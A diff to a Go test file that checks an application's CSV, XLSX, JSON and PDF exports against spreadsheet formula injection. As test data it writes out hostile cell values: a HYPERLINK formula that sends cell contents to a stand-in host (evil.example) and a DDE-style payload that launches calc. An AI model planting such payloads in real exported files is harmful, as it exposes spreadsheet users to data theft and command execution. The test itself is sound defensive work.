@@ -102,20 +102,77 @@ func TestSmallGroupsAreInNoExport(t *testing.T) {
 
 func TestNoFormulaFromOutside(t *testing.T) {
 	ws, s := sampleYear(t)
-	exec(t, ws, `UPDATE topic SET name = '=HYPERLINK("http://evil.example")' WHERE id = 1`, `UPDATE department SET name = '+1+1' WHERE id = 1`)
-	data := string(export(t, s, wholeYear, CSV, "en"))
-	for _, bad := range []string{"\n=", ",=", ",+", `,"=`} {
-		if strings.Contains(data, bad) {
-			t.Errorf("the CSV has a cell that begins %q", bad)
+	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"} {
+		hostile := lead + `HYPERLINK("http://evil.example?"&A1)|' /C calc'!A0` + "\r\n=1+1;=2+2"
+		for _, table := range []string{"topic", "department", "campaign"} {
+			exec(t, ws, `UPDATE `+table+` SET name = '`+strings.ReplaceAll(hostile, "'", "''")+`' || id`)
+		}
+		if err := ws.Settings.SetCompany(context.Background(), workspace.Company{Name: hostile}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(bytes.NewReader(export(t, s, wholeYear, CSV, "en"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, row := range rows {
+			for _, cell := range row {
+				found = found || strings.Contains(cell, "HYPERLINK")
+				if _, err := strconv.ParseFloat(cell, 64); err != nil && strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
+					t.Errorf("the CSV has the cell %q", cell)
+				}
+			}
+		}
+		if !found {
+			t.Fatalf("%q: no name is in the CSV", lead)
+		}
+		if cells := textCells(t, export(t, s, wholeYear, XLSX, "en")); cells == 0 {
+			t.Errorf("%q: no name is in the workbook", lead)
+		}
+		if data := export(t, s, wholeYear, JSON, "en"); !json.Valid(data) {
+			t.Errorf("%q: the JSON cannot be read", lead)
+		}
+		if data := export(t, s, wholeYear, PDF, "en"); bytes.Contains(data, []byte("/URI")) || bytes.Contains(data, []byte("/JavaScript")) {
+			t.Errorf("%q: the PDF does more than show", lead)
 		}
 	}
-	book, err := excelize.OpenReader(bytes.NewReader(export(t, s, wholeYear, XLSX, "en")))
+}
+
+// textCells counts the cells that hold a hostile name, and fails where one is no
+// text or one of Relais' own formulas holds it.
+func textCells(t *testing.T, data []byte) (found int) {
+	t.Helper()
+	book, err := excelize.OpenReader(bytes.NewReader(data))
 	if err != nil {
 		t.Fatal(err)
 	}
-	if formula, _ := book.GetCellFormula("Topic", "A2"); formula != "" {
-		t.Errorf("a topic's name became the formula %q", formula)
+	defer book.Close()
+	for _, sheet := range book.GetSheetList() {
+		rows, err := book.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for y, row := range rows {
+			for x, text := range row {
+				at := cellName(x+1, y+1)
+				formula, _ := book.GetCellFormula(sheet, at)
+				if strings.Contains(formula, "HYPERLINK") || strings.Contains(formula, "!") {
+					t.Errorf("%s %s is the formula %q", sheet, at, formula)
+				}
+				if !strings.Contains(text, "HYPERLINK") {
+					continue
+				}
+				found++
+				if kind, err := book.GetCellType(sheet, at); err != nil || formula != "" || kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString {
+					t.Errorf("%s %s has type %v and the formula %q (%v)", sheet, at, kind, formula, err)
+				}
+			}
+		}
+		if links, _ := book.GetHyperLinkCells(sheet, ""); len(links) > 0 {
+			t.Errorf("%s has links at %v", sheet, links)
+		}
 	}
+	return found
 }
 
 func TestNothingYet(t *testing.T) {
